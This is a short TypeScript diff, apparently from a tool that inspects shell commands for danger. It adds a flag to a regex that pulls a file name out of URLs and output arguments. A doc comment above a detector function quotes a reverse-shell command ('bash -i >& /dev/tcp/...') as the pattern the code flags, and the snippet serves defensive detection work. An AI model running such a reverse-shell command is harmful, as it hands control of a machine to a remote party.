@@ -47,7 +47,7 @@ const isIn =
 
 /** `x.sh` of `https://a/x.sh?b`, `-ox.sh` is left to its own fate, `--output=x.sh`, `./x.sh`. */
 const nameOf = (word: string): string =>
-  basename(word.replace(/^--?[\w-]+=/, '').replace(/[?#].*$/, '')) || '/';
+  basename(word.replace(/^--?[\w-]+=/, '').replace(/[?#].*$/s, '')) || '/';
 
 /** `bash -i >& /dev/tcp/a/1`: the other end types into it. */
 function handsOverShell(parts: readonly Part[]): Finding[] {
